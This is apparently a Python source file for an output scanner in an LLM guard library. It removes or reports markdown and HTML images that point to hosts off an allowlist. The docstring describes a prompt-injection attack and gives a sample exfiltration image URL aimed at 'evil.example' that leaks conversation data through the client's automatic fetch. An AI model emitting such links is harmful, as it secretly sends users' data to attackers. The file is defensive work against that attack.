"""Images in answers that load from hosts not on an allowlist (LLM02, LLM05).

A chat client renders ``![x](https://evil.example/p?q=<data>)`` by fetching the URL,
so an injected instruction can make the model leak conversation data to any host
without a click. Images (markdown inline and reference style, HTML ``<img>``) to hosts
not on `allow_hosts` are removed by the default policy. ``data:`` images and relative
URLs stay (they fetch nothing elsewhere).
"""

from __future__ import annotations

from typing import Any, ClassVar

from dozor.guard.scanners.base import BLOCK, OUTPUT, REDACT, REPORT, Hit, ScanInput, Scanner
from dozor.guard.scanners.links import (
    _HTML_IMG,
    _IMAGE,
    _REF_DEF,
    _REF_IMAGE,
    _query_size,
    allowed,
    host_of,
)


class ExternalImages(Scanner):
    name = "images"
    directions = frozenset({OUTPUT})
    rules = ("DZ-GRD-050",)
    actions = (BLOCK, REDACT, REPORT)
    defaults: ClassVar[dict[str, Any]] = {"allow_hosts": []}

    def scan(self, item: ScanInput) -> list[Hit]:
        text = item.text
        if "![" not in text and "<img" not in text.lower() and "<IMG" not in text:
            return []
        allow = list(self.options["allow_hosts"])
        hits: list[Hit] = []
        found: list[tuple[int, int, str]] = [(m.start(), m.end(), m.group(1))
                                             for m in _IMAGE.finditer(text)]
        found += [(m.start(), m.end(), m.group(1)) for m in _HTML_IMG.finditer(text)]
        refs = {m.group(1).lower(): m.group(2) for m in _REF_DEF.finditer(text)} \
            if "]:" in text else {}
        for m in _REF_IMAGE.finditer(text):
            url = refs.get(m.group(1).lower())
            if url is not None:
                found.append((m.start(), m.end(), url))
        for start, end, url in found:
            host = host_of(url)
            if host is None or allowed(host, allow):
                continue
            score = 1.0 if _query_size(url) > 0 else 0.9
            hits.append(Hit("DZ-GRD-050", score, f"image from {host}", start, end,
                            entity="IMAGE", replacement=f"[image removed: {host}]",
                            details=(("host", host),)))
        return hits
